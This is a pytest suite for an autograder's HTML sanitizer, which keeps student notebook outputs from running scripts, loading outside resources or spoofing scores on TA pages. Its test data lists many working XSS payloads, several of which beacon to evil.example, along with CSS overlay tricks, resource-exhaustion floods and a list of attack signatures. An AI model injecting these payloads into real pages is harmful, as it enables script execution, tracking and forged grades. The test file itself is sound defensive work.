"""What a student displays is shown on the pages that a TA opens; it never runs, loads, or reaches out of its place."""

import base64
import sys
import sysconfig
from typing import Any

import nbformat
import pytest

from autograder.feedback import outputs, sanitize, styles

PNG = base64.b64encode(b"\x89PNG").decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9"><script>alert(1)</script></svg>'


def shown(output: dict[str, Any]) -> Any:
    ((node,),) = outputs.of_cells([[output]])
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("", outputs=[node])])
    nbformat.validate(notebook)
    return node


def display(metadata: dict[str, Any] | None = None, **data: Any) -> dict[str, Any]:
    kinds = {"html": "text/html", "plain": "text/plain", "md": "text/markdown", "latex": "text/latex"}
    kinds |= {"png": "image/png", "svg": "image/svg+xml", "js": "application/javascript"}
    bundle = {kinds[name]: value for name, value in data.items()}
    return {"output_type": "display_data", "data": bundle, "metadata": metadata or {}}


def body(text: str) -> str:
    """The sanitized HTML inside its wrapper."""
    clean = sanitize.html(text)
    assert clean.startswith(f'<div class="{styles.SCOPE}"')
    assert clean.endswith("</div>")
    return clean.split(">", 1)[1].removesuffix("</div>")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        '<img src="https://evil.example/seen.gif">',
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        '<img src="data:image/png;base64,AA==&quot; onerror=&quot;alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<svg onload=alert(1)><script>alert(1)</script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example/style.css>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<style>@import url(//evil.example);</style>",
        "<style>p{background:url(//evil.example/seen)}</style><p>x</p>",
        "<style>p{color:red;}</style\n><img src=x onerror=alert(1)>",
        "<p style=\"background:url('https://evil.example')\">x</p>",
        '<p style="position:fixed;top:0;z-index:9999">20 of 20</p>',
        '<p style="margin-top:-900px">20 of 20</p>',
        '<p style="color:expression(alert(1))">x</p>',
        "<p style=\"background:image-set('//evil.example' 1x)\">x</p>",
        '<p id="check_conv2d" class="score nbgrader_cell modal navbar-fixed-top" name="x" data-toggle="modal">x</p>',
        "<template><script>alert(1)</script></template>",
        "<video autoplay src=//evil.example></video><audio src=//evil.example></audio>",
    ],
)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    clean = body(attack).lower()
    for sign in ("<script", "onerror", "onload", "onfocus", "javascript:", "evil.example", "<svg", "<iframe", "<form"):
        assert sign not in clean, clean
    for sign in ("<input", "<meta", "<base", "<link", "<object", "<embed", "<math", "<template", "<noscript", "url("):
        assert sign not in clean, clean
    for sign in (
        "position",
        "margin-top:-",
        "expression",
        "image-set",
        "check_conv2d",
        "modal",
        "text/html",
        "@import",
    ):
        assert sign not in clean, clean


def test_a_table_of_pandas_keeps_its_look() -> None:
    styled = (
        '<style type="text/css">#T_4f2a1_row0_col0 { background-color: #fde725; color: #000000; }\n'
        "#T_4f2a1 th, #T_4f2a1 td { text-align: right; }</style>"
        '<table id="T_4f2a1"><thead><tr><th class="blank level0">&nbsp;</th></tr></thead><tbody><tr>'
        '<th id="T_4f2a1_level0_row0" class="row_heading level0 row0">0</th>'
        '<td id="T_4f2a1_row0_col0" class="data row0 col0">1.50</td></tr></tbody></table>'
    )
    clean = body(styled)
    assert ".student-html #T_4f2a1_row0_col0{background-color:#fde725;color:#000000}" in clean
    assert ".student-html #T_4f2a1 th,.student-html #T_4f2a1 td{text-align:right}" in clean
    assert '<td id="T_4f2a1_row0_col0" class="data row0 col0">1.50</td>' in clean
    style = "<style scoped>.dataframe tbody tr th { vertical-align: top; }</style>"
    plain = f'<div>\n{style}\n<table border="1" class="dataframe">'
    assert '<table border="1" class="dataframe">' in body(plain)
    assert ".student-html .dataframe tbody tr th{vertical-align:top}" in body(plain)


def test_bars_and_colours_of_styled_cells_stay() -> None:
    table = '<table><tr><td style="width: 10em; background: linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)">x'
    assert 'style="width:10em;background:linear-gradient(90deg, #d65f5f 50.0%, transparent 50.0%)"' in body(table)


def test_a_style_reaches_its_own_output_alone() -> None:
    clean = body(
        "<style>body, html > * {color:red} + p {color:blue} .a{} x{;}@media print{p{color:red}}</style><p>text</p>"
    )
    assert clean == "<style>.student-html body,.student-html html > *{color:red}</style><p>text</p>"


def test_text_that_looks_like_a_style_is_text() -> None:
    clean = body('<p title="<style>p{}</style>"><code>&lt;style&gt;p{color:red}&lt;/style&gt;</code></p>')
    assert "<style>" not in clean
    assert "&lt;style&gt;p{color:red}" in clean


def test_a_wrapper_cannot_be_left() -> None:
    assert body("</div></div></body>after").startswith("after")


def test_a_drawing_is_an_image_in_which_nothing_runs() -> None:
    node = shown(display(svg=SVG, plain="<Drawing>"))
    assert set(node.data) == {"text/html", "text/plain"}
    source = node.data["text/html"].split('src="data:image/svg+xml;base64,')[1].split('"')[0]
    assert base64.b64decode(source).decode() == SVG
    assert "<svg" not in node.data["text/html"]
    assert shown(display(svg='<!DOCTYPE svg [<!ENTITY a "&b;">]>' + SVG, plain="x")).data == {"text/plain": "x"}


def test_a_drawing_in_html_is_shown_too() -> None:
    clean = body("<p>before</p><svg width='5'><circle r='2'/></svg><p>after</p>")
    source = clean.split("base64,")[1].split('"')[0]
    assert base64.b64decode(source) == b"<svg xmlns=\"http://www.w3.org/2000/svg\" width='5'><circle r='2'/></svg>"


def test_scripts_and_widgets_are_left_to_their_plain_text() -> None:
    assert shown(display(js="alert(1)", plain="<Javascript>")).data == {"text/plain": "<Javascript>"}
    assert shown(display(js="alert(1)")).data == {"text/plain": outputs.REMOVED}
    widget = display(plain="IntSlider(value=3)")
    widget["data"]["application/vnd.jupyter.widget-view+json"] = {"model_id": "1"}
    assert shown(widget).data == {"text/plain": "IntSlider(value=3)"}


def test_markdown_shows_html_instead_of_obeying_it() -> None:
    source = shown(display(md="**bold** <script>alert(1)</script> <b>b</b> $a < b$ ![seen](//evil.example/x.gif)")).data
    assert source["text/markdown"] == (
        "**bold** < script>alert(1)< /script> < b>b< /b> $a < b$ [seen](//evil.example/x.gif)"
    )


def test_latex_stays_as_it_is() -> None:
    assert shown(display(latex=r"$\frac{1}{2}$")).data == {"text/latex": r"$\frac{1}{2}$"}


def test_pictures_are_base64_with_sizes_and_words() -> None:
    node = shown(display({"image/png": {"width": 40, "onload": "x"}, "isolated": True}, png=PNG, plain="<Figure>"))
    assert node.metadata == {"image/png": {"alt": "Figure", "width": 40}}
    assert shown(display(png='AA=="><script>', plain="p")).data == {"text/plain": "p"}
    forged = shown(display({"image/png": {"width": '1"><script>alert(1)</script>'}}, png=PNG))
    assert forged.metadata == {"image/png": {"alt": "picture"}}


@pytest.mark.parametrize(
    "output",
    [
        {},
        {"output_type": "stream", "name": "stdin", "text": "x"},
        {"output_type": "stream", "name": "stdout", "text": ["x"]},
        {"output_type": "error", "ename": "E", "evalue": 3, "traceback": []},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": [1]},
        {"output_type": "display_data", "data": "<b>"},
        {"output_type": ["stream"], "name": {}, "text": None},
    ],
)
def test_what_is_no_output_is_a_note(output: dict[str, Any]) -> None:
    assert shown(output).text == outputs.INVALID


def test_odd_parts_of_outputs_are_dropped() -> None:
    node = shown(
        {"output_type": "execute_result", "data": {3: "x", "text/plain": "y"}, "execution_count": True, "z": 1}
    )
    assert node.execution_count is None
    assert node.data == {"text/plain": "y"}
    assert "z" not in node


def test_later_cells_change_earlier_displays() -> None:
    first = display(plain="before") | {"transient": {"display_id": "a"}}
    update = {"output_type": "update_display_data", "data": {"text/plain": "after"}, "transient": {"display_id": "a"}}
    lost = {"output_type": "update_display_data", "data": {}, "transient": {"display_id": ["b"]}}
    cells = outputs.of_cells([[first], [], [update, lost]])
    assert [[output.data["text/plain"] for output in outputs] for outputs in cells] == [["after"], [], []]


def test_a_page_of_outputs_is_cut() -> None:
    (shown,) = outputs.of_cells([[display(plain="x")] * 5_000])
    assert len(shown) == outputs.MAX_OUTPUTS + 1
    assert "showed 5000 things" in shown[-1].text


def test_no_folder_of_this_machine_is_named() -> None:
    library = f"{sysconfig.get_paths()['purelib']}/numpy/linalg.py"
    standard = f"{sysconfig.get_paths()['stdlib']}/json/decoder.py"
    text = f'File \x1b[32m{library}:10\x1b[39m\n  File "{standard}", line 3\n{sys.prefix}/bin/python'
    error = shown({"output_type": "error", "ename": "E", "evalue": library, "traceback": [text]})
    assert "site-packages/numpy/linalg.py:10" in error.traceback[0]
    for node in (error, shown({"output_type": "stream", "name": "stderr", "text": text}), shown(display(plain=text))):
        assert sys.prefix not in str(node)
        assert sys.base_prefix + "/" not in str(node).replace("/usr/", "")


@pytest.mark.parametrize(
    "flood",
    [
        "<div>" * 12_000,
        "<svg " * 12_000,
        "<svg>" + "</svg " * 200_000,
        "<style>" + "<style>" * 11_000,
        "<style>p{color:" + "(" * 100_000 + "}</style>",
        "<style>" + "(" * 100_000 + "{color:red}</style>",
        '<p style="color:' + "(" * 100_000 + '">',
        "<style>" + "p{color:red}" * 80_000 + "</style>",
        "<p class='" + "row1 " * 200_000 + "'>",
        "<table>" * 11_000 + "<td>",
        "&lt;" * 200_000,
    ],
)
def test_a_page_made_to_be_slow_is_not(flood: str) -> None:
    assert sanitize.html(flood)  # what is quadratic in a megabyte takes so long that it ends the suite


def test_what_a_filter_stumbles_over_is_left_out() -> None:
    digits, nested = "9" * 5_000, "(" * 5_000
    for style in (f"width:{digits}px;position:fixed;background:url(//evil.example)", f"{nested}position:fixed"):
        clean = body(f"<p style='{style}'>x</p><style>td{{{style}}}</style><style lang=de>td{{{style}}}</style>")
        assert clean == "<p>x</p>"


def test_a_style_is_one_whatever_its_attributes() -> None:
    for begins in ("<style lang=de>", "<style title='a>b' dir=ltr>", "<STYLE ID=T_1 class=row1>"):
        clean = body(f"{begins}@import url(//evil.example); .verdict{{display:none}} body{{position:fixed}}</style>x")
        assert clean == "<style>.student-html .verdict{display:none}</style>x"


def test_no_link_is_left() -> None:
    assert "href" not in body(
        '<a href="https://example.org" name=x>text</a><map name=m><area href=//evil.example></map>'
    )


def test_sanitizing_again_changes_nothing() -> None:
    for text in (
        "<style>#T_1_row0_col0, td {color:red}</style><table id=T_1><td id=T_1_row0_col0 class='data row0'>x",
        "a <b>&lt;script&gt;</b> <svg width=3></svg>",
        "</div><div class=student-html>x",
    ):
        once = sanitize.html(text)
        assert sanitize.html(once) == once


def test_what_grows_out_of_all_bounds_is_a_note_beside_what_does_not() -> None:
    grows = "<p>" + "".join(f"<b title={n}>" for n in range(1_500)) + "<p>x" * 1_500
    (shown,) = outputs.of_cells([[display(html=grows, plain="p"), display(html="<i>x</i>")]])
    assert "[this output could not be shown: it needed more than 256 MB of memory]" in shown[0].data["text/html"]
    assert "<i>x</i>" in shown[1].data["text/html"]


def test_sizes_are_numbers_that_json_has() -> None:
    for size in (float("nan"), float("inf"), -1, 10**400, True, "1", None):
        metadata = {"image/png": {"width": size, "height": 4.5}}
        assert shown(display(metadata, png=PNG)).metadata == {"image/png": {"alt": "picture", "height": 4.5}}


def test_a_sane_number_of_colours_is_kept() -> None:
    coloured = "\x1b[1;38;2;255;255;255;48;2;10;20;30mx\x1b[0m y\x1b[2K"
    assert outputs.printed(coloured) == coloured
    assert outputs.printed("a\x1b[" + "1;" * 250_000 + "mb") == "ab"
    assert outputs.printed("a\x1b[1mb" * 200_000) == "ab" * 200_000
    assert "\x1b" not in outputs.printed("\x1b[" * 200_000)


def test_more_html_than_a_page_holds_is_left_out() -> None:
    with pytest.raises(ValueError, match="elements"):
        sanitize.html("<p>" * 20_000)
    assert shown(display(html="<p>" * 20_000, plain="a table")).data == {"text/plain": "a table"}
    cells = outputs.of_cells([[display(html="<p>x</p>" * 10_000, plain="p")]] * 7)
    assert [len(output.data) for (output,) in cells] == [2] * 6 + [1]


def test_many_updates_of_many_displays_are_not_slow() -> None:
    one = display(plain="x") | {"transient": {"display_id": "a"}}
    cells = outputs.after_updates([[one] * 20_000, [one | {"output_type": "update_display_data"}] * 20_000])
    assert [len(outputs) for outputs in cells] == [20_000, 0]
